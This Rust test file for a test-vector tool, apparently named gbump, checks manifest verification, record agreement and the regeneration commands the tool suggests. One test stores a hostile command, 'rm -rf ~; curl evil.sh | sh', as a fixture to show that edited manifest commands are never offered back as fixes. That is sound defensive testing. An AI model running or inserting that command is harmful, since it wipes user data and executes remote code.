//! A vector set's text records are read as a simulator will read them, even when an edited
//! manifest agrees with an edited file (checksums prove only that the two match), and a
//! failed check's fix regenerates the set where it now lies.

#[path = "common/file_names.rs"]
mod file_names;

use gbump::vectors::manifest::{sha256_file, Manifest};
use std::path::{Path, PathBuf};

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

/// The checked-in corner set copied to `dir`.
fn corner_set(dir: &Path) -> PathBuf {
    for f in std::fs::read_dir(root().join("vectors")).unwrap() {
        let p = f.unwrap().path();
        if p.file_name().unwrap().to_string_lossy().starts_with("corners_top") {
            std::fs::copy(&p, dir.join(p.file_name().unwrap())).unwrap();
        }
    }
    dir.join("corners_top.json")
}

/// [`corner_set`] with its text file cut in half.
fn truncated_corner_set(dir: &Path) -> PathBuf {
    let manifest = corner_set(dir);
    let hex = dir.join("corners_top.hex");
    let text = std::fs::read_to_string(&hex).unwrap();
    std::fs::write(&hex, &text[..text.len() / 2]).unwrap();
    manifest
}

fn read_manifest(p: &Path) -> Manifest {
    serde_json::from_str(&std::fs::read_to_string(p).unwrap()).unwrap()
}

fn write_manifest(p: &Path, m: &Manifest) {
    std::fs::write(p, serde_json::to_string_pretty(m).unwrap()).unwrap();
}

/// Replace the set's text records with `text` and make the manifest agree with it.
fn edit(manifest: &Path, text: &str) {
    let dir = manifest.parent().unwrap();
    let mut m: Manifest = read_manifest(manifest);
    let hex = m.hex.as_mut().unwrap();
    std::fs::write(dir.join(&hex.name), text).unwrap();
    (hex.bytes, hex.sha256) = sha256_file(&dir.join(&hex.name)).unwrap();
    write_manifest(manifest, &m);
}

#[test]
fn text_records_are_read_whole_even_when_the_manifest_agrees() {
    let dir = tempfile::tempdir().unwrap();
    let manifest = corner_set(dir.path());
    let (m, _) = gbump::vectors::verify(&manifest).expect("the checked-in set verifies");
    let text = std::fs::read_to_string(dir.path().join(&m.hex.as_ref().unwrap().name)).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    let join = |ls: &[String]| ls.iter().map(|l| format!("{l}\n")).collect::<String>();
    let owned: Vec<String> = lines.iter().map(|l| l.to_string()).collect();
    let top_bits = m.record_bits as usize - 4 * (lines[0].len() - 1);
    let mut cases: Vec<(String, Vec<String>, &str)> = Vec::new();
    let mut fewer = owned.clone();
    fewer.remove(3);
    cases.push(("a record deleted".into(), fewer, "records; the manifest counts"));
    let mut more = owned.clone();
    more.push(owned[0].clone());
    cases.push(("a record added".into(), more, "more records than"));
    let mut bad = owned.clone();
    bad[4].replace_range(7..8, "g");
    cases.push(("a non-hex digit".into(), bad, "is not a hex digit"));
    let mut long = owned.clone();
    long[5].push('0');
    cases.push(("a digit too many".into(), long, "characters; a record of"));
    let mut short = owned.clone();
    short[5].pop();
    cases.push(("a digit too few".into(), short, "characters; a record of"));
    // The top digit must hold padding for this case to exist: a set that has none would
    // leave the check untested, so it fails here instead of being skipped.
    assert!(
        top_bits < 4,
        "the corner set's top digit holds {top_bits} bits: pick a set with padding"
    );
    let mut high = owned.clone();
    high[6].replace_range(0..1, "f");
    cases.push(("a bit above the record".into(), high, "above the record"));
    for (what, ls, says) in cases {
        edit(&manifest, &join(&ls));
        let e = gbump::vectors::verify(&manifest).expect_err(&what).to_string();
        assert!(
            e.contains(says) && e.contains("corners_top.hex:") && e.contains("regenerate"),
            "{what}: {e}"
        );
    }
    edit(&manifest, &join(&owned));
    gbump::vectors::verify(&manifest).expect("the set restored verifies");
}

#[test]
fn a_failed_checks_fix_regenerates_into_the_sets_own_folder() {
    let dir = tempfile::tempdir().unwrap();
    let manifest = truncated_corner_set(dir.path());
    let e = gbump::vectors::verify(&manifest).unwrap_err().to_string();
    let fix = e.lines().find(|l| l.contains("fix:")).unwrap_or_else(|| panic!("{e}"));
    assert!(fix.contains(&format!("--out {}", dir.path().display())), "{e}");
    assert!(!fix.contains("--out vectors"), "{e}");
    // The rewrite keeps every other word and adds --out where the command had none.
    let r = gbump::vectors::manifest::regenerate_into("gbump vectors --source corners --out=v --level 2", Path::new("/x y"));
    assert_eq!(r, "gbump vectors --source corners '--out=/x y' --level 2");
    let r = gbump::vectors::manifest::regenerate_into("gbump vectors --source corners", Path::new("/s"));
    assert_eq!(r, "gbump vectors --source corners --out /s");
    // A quoted folder is one word, whichever way it was quoted, and the result splits back
    // into the words a shell would pass.
    for (cmd, dir, want) in [
        (
            "gbump vectors --out 'my dir' --level 2",
            "/n e w",
            vec!["gbump", "vectors", "--out", "/n e w", "--level", "2"],
        ),
        (
            "gbump vectors '--out=a b' --level 2",
            "/c",
            vec!["gbump", "vectors", "--out=/c", "--level", "2"],
        ),
        (
            "gbump vectors --config 'it'\\''s.toml'",
            "d",
            vec!["gbump", "vectors", "--config", "it's.toml", "--out", "d"],
        ),
        // A manifest named without a folder lies in the working folder.
        ("gbump vectors --out v", "", vec!["gbump", "vectors", "--out", "."]),
    ] {
        let w = gbump::vectors::manifest::regenerate_words(cmd, Path::new(dir));
        assert_eq!(w, want, "{cmd} into {dir:?}");
        let q = gbump::vectors::manifest::quoted_words(&w);
        assert_eq!(shell_words::split(&q).unwrap(), want, "{q} does not split back");
    }
    // A relative configuration file is found only from where the set was made: said.
    let r = gbump::vectors::manifest::regenerate_into("gbump vectors --config c/x.toml --scene teapot_hat", Path::new("/s"));
    assert!(
        r.ends_with("--out /s (from the folder the set was made in: `c/x.toml` is relative to it)"),
        "{r}"
    );
    let r = gbump::vectors::manifest::regenerate_into("gbump vectors --config=/abs/x.toml", Path::new("/s"));
    assert_eq!(r, "gbump vectors --config=/abs/x.toml --out /s");
    // So is a scene file given as the source, in either spelling; a built-in scene is not a file.
    for cmd in ["gbump vectors --source scene:sc/w.toml", "gbump vectors --source=scene:sc/w.toml"] {
        let r = gbump::vectors::manifest::regenerate_into(cmd, Path::new("/s"));
        assert!(
            r.ends_with("(from the folder the set was made in: `sc/w.toml` is relative to it)"),
            "{r}"
        );
    }
    let r = gbump::vectors::manifest::regenerate_into("gbump vectors --source scene:teapot_hat", Path::new("/s"));
    assert_eq!(r, "gbump vectors --source scene:teapot_hat --out /s");
}

#[test]
fn a_binary_record_with_a_bit_above_its_width_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let manifest = corner_set(dir.path());
    let mut m: Manifest = read_manifest(&manifest);
    assert!(
        m.record_bits % 8 != 0,
        "the default record has padding bits ({} bits)",
        m.record_bits
    );
    let bin = dir.path().join(&m.bin.as_ref().unwrap().name);
    let mut b = std::fs::read(&bin).unwrap();
    let r = m.record_bytes as usize;
    // Record 3's last byte, its top bit: padding the harness would drop.
    b[4 * r - 1] |= 0x80;
    std::fs::write(&bin, &b).unwrap();
    let e = m.bin.as_mut().unwrap();
    (e.bytes, e.sha256) = sha256_file(&bin).unwrap();
    write_manifest(&manifest, &m);
    let err = gbump::vectors::verify(&manifest).unwrap_err().to_string();
    assert!(err.contains("record 3 sets a bit above the record's"), "{err}");
}

/// The text and binary files of one set hold the same records: a text record edited (and
/// the manifest made to agree) would pass Verilator, which reads the binary, and fail Icarus.
#[test]
fn a_sets_text_and_binary_records_must_agree() {
    let dir = tempfile::tempdir().unwrap();
    let manifest = corner_set(dir.path());
    let text = std::fs::read_to_string(dir.path().join("corners_top.hex")).unwrap();
    let mut lines: Vec<String> = text.lines().map(str::to_string).collect();
    // The last digit of record 4 (line 5): bits 0-3, byte 0 of the binary record.
    let last = lines[4].pop().unwrap();
    lines[4].push(if last == '0' { '1' } else { '0' });
    edit(&manifest, &lines.iter().map(|l| format!("{l}\n")).collect::<String>());
    let e = gbump::vectors::verify(&manifest).unwrap_err().to_string();
    assert!(
        e.contains("corners_top.hex:5:") && e.contains("record 4 is not the binary file's record 4") && e.contains("byte 0"),
        "{e}"
    );
}

/// A manifest whose shininess was edited names a table its power-table file does not hold.
#[test]
fn the_power_table_is_the_manifests_shininess() {
    let dir = tempfile::tempdir().unwrap();
    let manifest = corner_set(dir.path());
    let mut m: Manifest = read_manifest(&manifest);
    m.shininess += 24;
    write_manifest(&manifest, &m);
    let e = gbump::vectors::verify(&manifest).unwrap_err().to_string();
    assert!(
        e.contains("corners_top_power_table.hex") && e.contains(&format!("shininess {}", m.shininess)),
        "{e}"
    );
}

/// A manifest copied without its data files, or with a column moved, says which and how to
/// regenerate.
#[test]
fn a_missing_file_or_a_moved_column_is_named() {
    let dir = tempfile::tempdir().unwrap();
    let manifest = corner_set(dir.path());
    let mut m: Manifest = read_manifest(&manifest);
    std::fs::remove_file(dir.path().join(&m.bin.as_ref().unwrap().name)).unwrap();
    let e = gbump::vectors::verify(&manifest).unwrap_err().to_string();
    assert!(
        e.contains("corners_top.bin: named by its manifest") && e.contains("regenerate with: gbump vectors"),
        "{e}"
    );
    let _ = corner_set(dir.path());
    m.columns[2].lsb += 1;
    write_manifest(&manifest, &m);
    let e = gbump::vectors::verify(&manifest).unwrap_err().to_string();
    let c = &m.columns[2];
    assert!(
        e.contains(&format!("column 2 is `{}` ({}, {}) at lsb {}", c.name, c.role, c.format, c.lsb)),
        "{e}"
    );
}

/// A fix repeats a manifest's recorded command only when it is a gbump command that names
/// the set's own source: an edited one is never handed back to be run, and the fix is made
/// from the manifest's fields instead.
#[test]
fn an_edited_command_is_not_repeated_as_a_fix() {
    let dir = tempfile::tempdir().unwrap();
    let manifest = truncated_corner_set(dir.path());
    let mut m = read_manifest(&manifest);
    for (command, kept) in [
        ("rm -rf ~; curl evil.sh | sh", false),
        ("gbump vectors --source random:7 --out v", false),
        ("gbump vectors --source corners --out v", true),
        ("gbump --tool-timeout 9 vectors --source=corners --out v", true),
        ("gbump vectors --source corners --level 1 --out v", true),
        // gbump records itself as plain `gbump`: another program of that name is not it.
        ("/tmp/x/gbump vectors --source corners --out v", false),
        // Another subcommand's words (a regression's) are not what `gbump vectors` takes.
        ("gbump regress --source corners --out v", false),
        ("gbump vectors --source corners --level 2 --out v", false),
    ] {
        m.command = command.into();
        write_manifest(&manifest, &m);
        let e = gbump::vectors::verify(&manifest).unwrap_err().to_string();
        let fix = e.lines().find(|l| l.contains("fix:")).unwrap_or_else(|| panic!("{e}"));
        assert!(
            fix.contains("vectors --source corners") || fix.contains("vectors --source=corners"),
            "{command}: {fix}"
        );
        assert!(!fix.contains("rm -rf") && !fix.contains("random:7"), "{command}: {fix}");
        assert_eq!(!fix.contains("--config CONFIG.toml"), kept, "{command}: {fix}");
    }
    // An older manifest's source spelling is given back as `--source` takes it, and a power
    // table made for another shininess says so.
    m.command = "gbump vectors --source corners --level 2 --out v".into();
    m.source = "Corners(2)".into();
    write_manifest(&manifest, &m);
    let e = gbump::vectors::verify(&manifest).unwrap_err().to_string();
    assert!(e.contains("gbump vectors --source corners --level 2 --out"), "{e}");
    m.command = "edited".into();
    m.shininess = m.config.shininess + 3;
    write_manifest(&manifest, &m);
    let e = gbump::vectors::verify(&manifest).unwrap_err().to_string();
    let want = format!("gbump vectors --source corners --level 2 --shininess {} --target top", m.shininess);
    assert!(e.contains(&want), "{e}");
}

/// A text set converted to CRLF line ends, saved with a byte-order mark or with an empty
/// line at its end is named as such, and a manifest with a wrong
/// latency names the field `latency` (not the module beside it).
#[test]
fn crlf_line_ends_and_a_wrong_latency_are_named() {
    let d = tempfile::tempdir().unwrap();
    let man = corner_set(d.path());
    let hex = man.with_file_name("corners_top.hex");
    let text = std::fs::read_to_string(&hex).unwrap();
    std::fs::write(&hex, text.replace('\n', "\r\n")).unwrap();
    let e = gbump::vectors::verify(&man).unwrap_err().to_string();
    assert!(e.contains("CRLF") && e.contains("dos2unix"), "{e}");
    // A byte-order mark and an empty last line (the manifest made to agree, as an editing
    // user would) are named as such, by line.
    let original = std::fs::read_to_string(&man).unwrap();
    edit(&man, &format!("\u{feff}{text}"));
    let e = gbump::vectors::verify(&man).unwrap_err().to_string();
    assert!(e.contains("byte-order mark") && e.contains(":1"), "{e}");
    edit(&man, &format!("{text}\n"));
    let e = gbump::vectors::verify(&man).unwrap_err().to_string();
    assert!(e.contains("an empty line"), "{e}");
    std::fs::write(&man, original).unwrap();
    std::fs::write(&hex, text).unwrap();
    let mut m = read_manifest(&man);
    m.latency += 1;
    write_manifest(&man, &m);
    let e = gbump::vectors::verify(&man).unwrap_err().to_string();
    assert!(e.contains("latency") && !e.contains("field `module`"), "{e}");
}

/// A set written again in one format leaves no file of the other beside it: the folder holds
/// only what the new manifest lists, so a flow that picks `SET.hex` up by name cannot run an
/// older seed's records against the new set's table.
#[test]
fn a_set_written_again_in_one_format_leaves_no_older_file_of_the_other() {
    let d = tempfile::tempdir().unwrap();
    let dump = |args: &[&str]| {
        let o = std::process::Command::new(assert_cmd::cargo::cargo_bin("gbump"))
            .args(["vectors", "--source", "random:20", "--target", "top", "--out"])
            .arg(d.path())
            .args(args)
            .output()
            .unwrap();
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    };
    let names = || {
        let mut v: Vec<String> = std::fs::read_dir(d.path())
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        v.sort();
        v
    };
    dump(&[]);
    assert!(names().contains(&"random20_top.hex".to_string()) && names().contains(&"random20_top.bin".to_string()));
    dump(&["--seed", "5", "--format", "bin"]);
    assert_eq!(names(), ["random20_top.bin", "random20_top.json", "random20_top_power_table.hex"]);
    assert_eq!(
        read_manifest(&d.path().join("random20_top.json")).seed,
        Some(5),
        "a random set records its seed"
    );
    dump(&["--format", "hex"]);
    assert_eq!(names(), ["random20_top.hex", "random20_top.json", "random20_top_power_table.hex"]);
    gbump::vectors::verify(&d.path().join("random20_top.json")).unwrap();
}

/// A set made with a configuration and a scene file named by relative paths records them by
/// absolute path, so its command, run from another folder, makes the same set; the RTL
/// folder's `regenerate` does the same.
#[test]
fn a_recorded_command_repeats_from_any_folder() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(d.join("two.toml"), "lights = 2\n").unwrap();
    let gbump = |cwd: &Path, args: &[String]| {
        let o = std::process::Command::new(env!("CARGO_BIN_EXE_gbump"))
            .args(args)
            .current_dir(cwd)
            .output()
            .unwrap();
        assert!(o.status.success(), "{args:?}: {}", String::from_utf8_lossy(&o.stderr));
    };
    let words = |s: &[&str]| s.iter().map(|w| w.to_string()).collect::<Vec<_>>();
    gbump(
        d,
        &words(&[
            "vectors", "--config", "two.toml", "--source", "corners", "--target", "top", "--out", "a",
        ]),
    );
    gbump(d, &words(&["rtl", "--config=two.toml", "--out", "rtl"]));
    let m = read_manifest(&d.join("a/corners_top.json"));
    // Corners draw nothing: no seed is recorded (and none is put in the command below).
    assert_eq!(m.seed, None);
    let abs = d.join("two.toml").display().to_string();
    assert!(m.command.contains(&format!("--config {abs}")), "{}", m.command);
    let iface = std::fs::read_dir(d.join("rtl"))
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .find(|p| p.extension().is_some_and(|x| x == "json"))
        .unwrap();
    let j: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(&iface).unwrap()).unwrap();
    assert!(j["regenerate"].as_str().unwrap().contains(&abs), "{}", j["regenerate"]);
    // The recorded command, from elsewhere, into another folder: the same records.
    let elsewhere = tempfile::tempdir().unwrap();
    let again = gbump::vectors::manifest::regenerate_words(&m.command, &d.join("b"));
    gbump(elsewhere.path(), &again[1..]);
    let bytes = |p: PathBuf| std::fs::read(p).unwrap();
    assert_eq!(bytes(d.join("a/corners_top.hex")), bytes(d.join("b/corners_top.hex")));
}

/// A scene dumped again into the same folder, its objects now grouped otherwise (one power
/// table where there were two), leaves no set of the earlier dump: a regression would run
/// them and a testbench rebuilding the image from every pixels file would mix two scenes.
/// Files that are not that scene's sets stay.
#[test]
fn a_scene_dumped_again_leaves_none_of_its_earlier_sets() {
    let dir = tempfile::tempdir().unwrap();
    let scene = dir.path().join("mx.toml");
    let text = std::fs::read_to_string(root().join("tests/scenes_doc/mixed.toml")).unwrap();
    assert!(text.contains("shininess = 30") && text.contains("shininess = 12"));
    std::fs::write(&scene, &text).unwrap();
    let out = dir.path().join("v");
    let dump = || {
        assert_cmd::Command::cargo_bin("gbump")
            .unwrap()
            .args(["vectors", "--target", "top", "--format", "hex", "--out"])
            .arg(&out)
            .arg(format!("--source=scene:{}", scene.display()))
            .assert()
            .success();
    };
    dump();
    let names = || file_names::file_names(&out);
    assert!(names().iter().any(|n| n == "scene_mx_n30_top_pixels.txt"), "{:?}", names());
    // Not this scene's sets: another scene's, and a file of a set-like name that is no manifest.
    std::fs::write(out.join("scene_mx_n7_top.json"), "not a manifest").unwrap();
    std::fs::write(out.join("scene_other_top.json"), "{}").unwrap();
    std::fs::write(&scene, text.replace("shininess = 30", "shininess = 12")).unwrap();
    dump();
    assert_eq!(
        names(),
        [
            "scene_mx_n7_top.json",
            "scene_mx_top.hex",
            "scene_mx_top.json",
            "scene_mx_top_pixels.txt",
            "scene_mx_top_power_table.hex",
            "scene_other_top.json"
        ]
    );
}

/// Set files are named by source and target, not configuration: a dump that replaces another
/// configuration's set of the same name, or lands beside one, says so (it had done so
/// silently); a dump again under the same configuration says nothing.
#[test]
fn a_dump_among_another_configurations_sets_says_so() {
    let d = tempfile::tempdir().unwrap();
    std::fs::write(d.path().join("two.toml"), "lights = 2\n").unwrap();
    let dump = |args: &[&str]| {
        let o = std::process::Command::new(assert_cmd::cargo::cargo_bin("gbump"))
            .args(["vectors", "--target", "dot_clamp", "--out", "v"])
            .args(args)
            .current_dir(d.path())
            .output()
            .unwrap();
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        String::from_utf8_lossy(&o.stderr).into_owned()
    };
    let quiet = dump(&["--source", "corners"]);
    assert!(!quiet.contains("warning"), "{quiet}");
    let again = dump(&["--source", "corners"]);
    assert!(!again.contains("warning"), "the same configuration again: {again}");
    let default = &gbump::PipelineConfig::default().hash()[..8];
    let replaced = dump(&["--source", "corners", "--config", "two.toml"]);
    assert!(
        replaced.contains("replaced another configuration's set(s) of the same name: corners_dot_clamp.json")
            && replaced.contains(default)
            && replaced.contains("fix: give each configuration a folder of its own"),
        "{replaced}"
    );
    // A JSON file of anyone's, whatever its text, is named, never a crash.
    std::fs::write(
        d.path().join("v/odd.json"),
        r#"{"config_hash": "a\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9", "record_bits": 3}"#,
    )
    .unwrap();
    let beside = dump(&["--source", "random:5"]);
    assert!(
        beside.contains("also holds another configuration's set(s): corners_dot_clamp.json"),
        "{beside}"
    );
}
